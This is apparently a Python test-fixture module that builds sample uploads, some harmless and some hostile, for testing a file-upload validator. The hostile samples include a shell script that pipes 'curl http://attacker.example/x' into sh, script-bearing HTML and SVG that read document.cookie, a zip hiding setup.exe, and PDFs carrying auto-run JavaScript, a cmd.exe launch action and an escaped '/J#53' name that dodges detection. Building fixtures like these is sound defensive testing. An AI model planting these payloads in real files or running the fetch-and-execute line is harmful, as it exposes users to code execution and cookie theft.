"""Files an attacker or a careless editor uploads, and honest ones, built here byte by byte (PDFs with pypdf)."""

import io
import zipfile

from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from demo.media import make_docx, make_pdf

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
# A DOS header ("MZ", NUL bytes, the offset of the PE header at 0x3C), then the PE signature.
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\x00\x00\x00" + bytes(64)
PE += b"PE\x00\x00\x4c\x01" + bytes(200)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>fetch('/admin/')</script></body></html>"
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
XML_SCRIPT = b"<note><script>alert(1)</script><to>Ana</to></note>"
PLAIN_XML = b'<?xml version="1.0"?>\n<note><to>Ana</to><body>Rendez-vous lundi.</body></note>'
TEXT = "Compte rendu de l’atelier : les enfants ont dessiné leur quartier.\n".encode()
CSV = "pays;partenaire;année\nTogo;Voix des enfants;2024\n".encode()


def png() -> bytes:
    """A real 4×4 PNG image."""
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "teal").save(out, "PNG")
    return out.getvalue()


def clean_pdf() -> bytes:
    return make_pdf("Guide de la médiation", ["Les étapes d’une médiation scolaire."])


def docx() -> bytes:
    return make_docx("Fiche pratique", ["Préparer la salle avec les enfants."])


def zip_named_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", PE)
    return out.getvalue()


def _changed_pdf(change) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(clean_pdf()))
    change(writer)
    return writer.write(io.BytesIO())[1].getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()})
    return action


def _set_root(key, value):
    return lambda writer: writer.root_object.__setitem__(NameObject(key), value)


def pdf_with_document_javascript() -> bytes:
    """JavaScript in the document's name tree, run when it opens (pypdf's add_open_action)."""
    return _changed_pdf(lambda writer: writer.add_open_action(JavaScript("app.alert('pwned');")))


def pdf_with_open_action_javascript() -> bytes:
    return _changed_pdf(_set_root("/OpenAction", _action("/JavaScript", JS="app.launchURL('http://x.example');")))


def pdf_with_launch_action() -> bytes:
    return _changed_pdf(_set_root("/OpenAction", _action("/Launch", F="cmd.exe")))


def pdf_with_page_automatic_action() -> bytes:
    def change(writer):
        opening = _action("/JavaScript", JS="this.submitForm('http://x.example');")
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): opening})

    return _changed_pdf(change)


def pdf_with_escaped_javascript_name() -> bytes:
    """`/J#53` is how a PDF may spell `/JS`; the script is two bytes shorter so that no offset moves."""
    pdf = pdf_with_open_action_javascript()
    assert pdf.count(b"/JS (") == 1
    return pdf.replace(b"/JS (", b"/J#53 (").replace(b"launchURL", b"launchU")


def pdf_opening_at_its_first_page() -> bytes:
    """An /OpenAction that only shows the first page, as many exported PDFs have: harmless."""

    def change(writer):
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    return _changed_pdf(change)
